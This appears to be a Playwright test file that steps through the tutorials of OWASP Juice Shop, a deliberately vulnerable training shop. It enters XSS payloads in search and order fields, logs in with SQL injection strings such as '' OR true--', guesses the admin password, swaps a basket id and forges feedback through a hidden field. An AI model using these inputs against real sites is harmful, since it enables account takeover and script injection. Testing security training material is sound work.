import type { Page } from 'playwright-core';
import { expect } from 'vitest';
import type { ChallengeKey } from '../../../shared/api/challenge-keys.ts';
import { nextDialog } from '../../exploits/dialogs.ts';
import { solvedKeys, xssPayload } from '../../exploits/support.ts';
import { focused } from '../running-shop.ts';
import { use, write } from './keyboard.ts';
import {
  all,
  click,
  type Deed,
  type Deeds,
  fill,
  goTo,
  hint,
  next,
  nothingToDo,
  openSubmenu,
  openTools,
  practice,
  press,
  walk,
} from './tour.ts';

/** What a learner does in a tutorial, hint by hint, and what it leads to. */
export interface Tour {
  readonly name: string;
  readonly leadsTo: string;
  /** Whether the learner is logged in before, with the account for practice. Nobody is by default. */
  readonly isLoggedIn?: boolean;
  readonly deeds: Deeds;
  readonly solves: ChallengeKey;
}

const search = '#searchQuery input';
const sendSearch = press(search, 'Enter');
const logIn = click('#loginButton');

/** Goes on from a hint that says where the same is done with a request. */
const nextAfterRequest: Deed = all(
  async (page) =>
    expect(await hint(page).getByRole('link', { name: 'in the workbench' }).getAttribute('href')).toBe('#/workbench'),
  next,
);

/** Logs in through the form. */
export function logInWith(email: string, password: string): Deed {
  return all(goTo('login'), fill('#email', email), fill('#password', password), press('#password', 'Enter'));
}

const logInForPractice = logInWith(practice, practice);

const bonusPayload =
  '<iframe width="100%" height="166" scrolling="no" frameborder="no" allow="autoplay" src="https://w.soundcloud.com/player/?url=' +
  'https%3A//api.soundcloud.com/tracks/771984076&color=%23ff5500&auto_play=true&hide_related=false&show_comments=true' +
  '&show_user=true&show_reposts=false&show_teaser=true"></iframe>';

/** The tutorials of the challenges in v18's order. */
export const tours: readonly Tour[] = [
  {
    name: 'Score Board',
    leadsTo: 'the score board',
    deeds: [next, next, next, openTools, goTo('score-board'), next],
    solves: 'scoreBoardChallenge',
  },
  {
    name: 'DOM XSS',
    leadsTo: 'a script that runs in the page',
    deeds: [
      next,
      fill(search, 'owasp'),
      sendSearch,
      next,
      next,
      next,
      fill(search, '<h1>owasp'),
      sendSearch,
      next,
      next,
      fill(search, '<script>alert(xss)</script>'),
      sendSearch,
      next,
      fill(search, xssPayload),
      alerting(sendSearch),
      next,
      next,
    ],
    solves: 'localXssChallenge',
  },
  {
    name: 'Bonus Payload',
    leadsTo: 'the music player',
    deeds: [next, fill(search, bonusPayload), sendSearch, next, next],
    solves: 'xssBonusChallenge',
  },
  {
    name: 'Privacy Policy',
    leadsTo: 'the policy',
    deeds: [
      all(
        click('#navbarAccount'),
        click('#navbarLoginButton'),
        fill('#email', practice),
        fill('#password', practice),
        logIn,
      ),
      click('#navbarAccount'),
      all(
        openSubmenu('[aria-label="Show Privacy and Security Menu"]'),
        click('[aria-label="Go to privacy policy page"]'),
      ),
      next,
      next,
    ],
    solves: 'privacyPolicyChallenge',
  },
  {
    name: 'Reflected XSS',
    leadsTo: 'a script in the number of an order',
    deeds: [
      logInForPractice,
      all(
        click('#navbarAccount'),
        openSubmenu('[aria-label="Show Orders and Payment Menu"]'),
        click('[aria-label="Go to saved address page"]'),
      ),
      click('[aria-label="Add a new address"]'),
      submitAddress('Riverside'),
      all(
        (at) => at.getByText('Your address in Riverside is saved.').waitFor(),
        click('[aria-label="Add a new address"]'),
      ),
      submitAddress(xssPayload),
      placeOrder,
      click('a[href*="track-result/new"]'),
      alerting(goTo(`track-result/new?id=${xssPayload}`)),
      next,
    ],
    solves: 'reflectedXssChallenge',
  },
  {
    name: 'Exposed credentials',
    leadsTo: 'the forgotten account',
    deeds: [
      nothingToDo,
      openTools,
      next,
      next,
      goTo('login'),
      fill('#email', 'testing@juice-sh.op'),
      fill('#password', 'IamUsedForTesting'),
      logIn,
      next,
      next,
    ],
    solves: 'exposedCredentialsChallenge',
  },
  {
    name: 'Login Admin',
    leadsTo: 'the account of the administrator',
    isLoggedIn: true,
    deeds: [
      all(click('#navbarAccount'), click('#navbarLogoutButton')),
      goTo('login'),
      next,
      next,
      fill('#email', "'"),
      fill('#password', 'anything'),
      logIn,
      all((at) => at.locator('app-login').getByText('[object Object]').waitFor(), next),
      next,
      next,
      fill('#email', "' OR true"),
      // Like someone who has both hands on the keyboard.
      press('#password', 'Enter'),
      next,
      next,
      next,
      fill('#email', "' OR true--"),
      logIn,
      click('#navbarAccount'),
      next,
    ],
    solves: 'loginAdminChallenge',
  },
  {
    name: 'Admin Section',
    leadsTo: 'the administration',
    deeds: [
      logInWith("' or 1=1--", 'anything'),
      // The menu takes the focus when it is open.
      all(click('[aria-label="Open Sidenav"]'), (at) => expect.poll(() => focused(at)).toBe('Close the menu')),
      next,
      next,
      next,
      next,
      all(click('[aria-label="Close the menu"]'), next),
      next,
      goTo('admin'),
      goTo('administration'),
      next,
      next,
      next,
      next,
    ],
    solves: 'adminSectionChallenge',
  },
  {
    name: 'Password Strength',
    leadsTo: 'the real password of the administrator',
    deeds: [
      nothingToDo,
      next,
      next,
      goTo('login'),
      fill('#email', 'admin@juice-sh.op'),
      fill('#password', 'letmein'),
      fill('#password', 'admin'),
      fill('#password', 'admin1'),
      fill('#password', 'admin12'),
      fill('#password', 'admin123'),
      logIn,
      next,
      next,
      next,
    ],
    solves: 'weakPasswordChallenge',
  },
  {
    name: 'View Basket',
    leadsTo: 'the basket of someone else',
    deeds: [
      next,
      logInForPractice,
      goTo('basket'),
      next,
      next,
      openTools,
      (at) => at.evaluate(() => sessionStorage.setItem('bid', '1')),
      next,
      all(goTo('about'), (at) => at.locator('app-about').waitFor(), goTo('basket')),
      nextAfterRequest,
    ],
    solves: 'basketAccessChallenge',
  },
  {
    name: 'Forged Feedback',
    leadsTo: 'feedback in someone else’s name',
    deeds: [goTo('contact'), next, next, next, openTools, next, revealUserId('2'), sendFeedback, nextAfterRequest],
    solves: 'forgedFeedbackChallenge',
  },
  {
    name: 'Login Jim',
    leadsTo: 'the account of Jim',
    deeds: takeOver('jim@juice-sh.op', 'search'),
    solves: 'loginJimChallenge',
  },
  {
    name: 'Login Bender',
    leadsTo: 'the account of Bender',
    deeds: takeOver('bender@juice-sh.op', 'about'),
    solves: 'loginBenderChallenge',
  },
];

/** Finishes a tutorial from a step on, counted from 1, and expects that its challenge is solved by then. */
export async function finish(page: Page, name: string, step: number): Promise<void> {
  const tour = tours.find((one) => one.name === name);
  if (tour === undefined) {
    throw new Error(`There is no tutorial for ${name}.`);
  }
  await walk(
    page,
    name,
    tour.deeds.map((deed, index) => (index + 1 < step ? nothingToDo : deed)),
  );
  await expect.poll(() => solvedKeys(new URL(page.url()).origin)).toContain(tour.solves);
}

/** Does whatever makes the payload run. */
function alerting(deed: Deed): Deed {
  return async (page) => {
    const alerted = nextDialog(page);
    await deed(page);
    expect(await alerted).toBe('xss');
  };
}
/** The tutorial that belongs to no challenge, started from the score board once that challenge is solved. */
export const codingTour: Deeds = [
  nothingToDo,
  next,
  click('[id="Score Board.codingChallengeButton"]'),
  next,
  next,
  next,
  all(click('.lineMarker >> nth=3'), click('.lineMarker >> nth=3'), (page) =>
    use(page, page.locator('.lineMarker', { hasText: "'score-board'" })),
  ),
  click('#findItSubmitButton'),
  next,
  tryFixes,
  click('#fixItCloseButton button'),
];

/** Chooses one fix after another until it is the right one. */
async function tryFixes(page: Page): Promise<void> {
  // The dialog does not move on by itself from under a keyboard's focus.
  await use(page, page.locator('#coding-tab-fix-it'));
  await page.locator('#coding-panel-fix-it label').first().waitFor();
  for (const option of await page.locator('#coding-panel-fix-it label').all()) {
    await use(page, option.getByRole('radio'), 'Space');
    const [answer] = await Promise.all([
      page.waitForResponse((answer) => answer.request().method() === 'POST' && answer.url().endsWith('/fixes')),
      use(page, page.locator('#fixItSubmitButton')),
    ]);
    // Read from the response, since the page shows the verdict a moment later, and then the button is gone.
    if ((await answer.json()).data.verdict === true) {
      break;
    }
  }
  await page.locator('#coding-tab-fix-it[data-state=solved]').waitFor();
}

function submitAddress(city: string): Deed {
  return all(
    fill('#address-country', 'Riverland'),
    fill('#address-name', 'Jim'),
    fill('#address-mobile-number', '1234567890'),
    fill('#address-zip-code', '12345'),
    fill('#address', 'Bridge 1'),
    fill('#address-city', city),
    click('#submitButton'),
  );
}

/** Goes from the shop window through the checkout. Jim has a card. */
async function placeOrder(page: Page): Promise<void> {
  await goTo('search')(page);
  await use(page, page.getByLabel('Add to Basket'));
  await page.locator('.mat-mdc-snack-bar-container').waitFor();
  await goTo('basket')(page);
  await click('#checkoutButton')(page);
  for (const onward of ['Proceed to payment selection', 'Proceed to delivery method selection', 'Proceed to review']) {
    // The previous screen stays until the next one has loaded.
    const button = page.locator(`[aria-label="${onward}"]`);
    await button.waitFor();
    await use(page, page.getByRole('radio'), 'Space');
    await use(page, button);
  }
  await use(page, page.locator('[aria-label="Complete your purchase"]'));
}

function takeOver(email: string, leak: string): Deeds {
  return [
    nothingToDo,
    goTo('login'),
    next,
    next,
    next,
    goTo(leak),
    goTo('login'),
    fill('#email', email),
    fill('#password', 'wrong'),
    logIn,
    next,
    fill('#email', `${email}'--`),
    logIn,
    next,
  ];
}

function revealUserId(id: string): Deed {
  return (page) =>
    page.evaluate((value) => {
      const field = document.querySelector<HTMLInputElement>('#userId');
      if (field !== null) {
        field.hidden = false;
        field.value = value;
      }
    }, id);
}

/** Fills in the form for feedback and sends it. */
export async function sendFeedback(page: Page): Promise<void> {
  await fill('#comment', 'Forged')(page);
  await press('#rating-input', 'End')(page);
  const question = (await page.textContent('#captcha')) ?? '';
  // A term such as 3*4-1 that the shop asks for.
  await write(page, page.locator('#captchaControl'), String(await page.evaluate(question)));
  await click('#submitButton')(page);
}
